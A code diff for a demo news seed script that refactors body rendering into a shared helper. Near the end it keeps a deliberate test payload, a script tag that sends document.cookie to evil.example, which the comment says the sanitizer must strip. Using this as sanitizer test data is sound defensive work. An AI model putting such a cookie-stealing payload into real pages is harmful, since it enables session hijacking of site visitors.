@@ -1,6 +1,7 @@
 import type { Queryable } from '../db/db.js';
 import { sanitizeHtml } from '../lib/sanitize-html.js';
 import { createPrng, type Prng } from '../lib/prng.js';
+import { renderNewsBody } from './news-body.js';
 import * as w from './news-words.js';
 
 /** How many demo news items the seed writes (issue 2 asks for at least 120). */
@@ -235,29 +236,22 @@ const weightedKinds = storyKinds.flatMap((kind, i) =>
   Array.from({ length: storyWeights[i] ?? 1 }, () => kind),
 );
 
-const escapeHtml = (text: string): string =>
-  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
-
 function renderBody(r: Prng, story: Story, extra: { rare?: string; unsafe: boolean }): string {
-  const parts = story.paragraphs.map((p) => `<p>${escapeHtml(p)}</p>`);
-  if (story.features && story.features.length > 0) {
-    parts.push('<h3>Highlights</h3>');
-    parts.push(
-      `<ul>${story.features.map((f) => `<li>${escapeHtml(f.charAt(0).toUpperCase() + f.slice(1))}</li>`).join('')}</ul>`,
-    );
-  }
-  if (extra.rare) parts.push(`<p>${escapeHtml(extra.rare)}</p>`);
-  if (r.chance(0.6)) {
-    const [name, role] = r.pick(w.spokespeople);
-    parts.push(
-      `<blockquote><p>“${escapeHtml(r.pick(w.quotes))}.”</p><p>${name}, ${role}</p></blockquote>`,
-    );
-  }
-  // Links to other sites open in a new tab; the sanitiser adds rel="noopener noreferrer".
-  parts.push(
-    `<p><a href="${story.link.href}" target="_blank">${escapeHtml(story.link.text)}</a></p>`,
-  );
-  parts.push(`<p>${escapeHtml(r.pick(w.closings))}</p>`);
+  // The draws in the order the seed has always made them: the same bodies every run.
+  const spokesperson = r.chance(0.6) ? r.pick(w.spokespeople) : undefined;
+  const quote = spokesperson
+    ? { name: spokesperson[0], role: spokesperson[1], text: r.pick(w.quotes) }
+    : undefined;
+  const parts = [
+    renderNewsBody({
+      paragraphs: story.paragraphs,
+      features: story.features,
+      rare: extra.rare,
+      quote,
+      link: story.link,
+      closing: r.pick(w.closings),
+    }),
+  ];
   // A few bodies carry what a careless editor might paste; it must never survive the seed.
   if (extra.unsafe) {
     parts.push('<script>document.location="https://evil.example/?c="+document.cookie</script>');
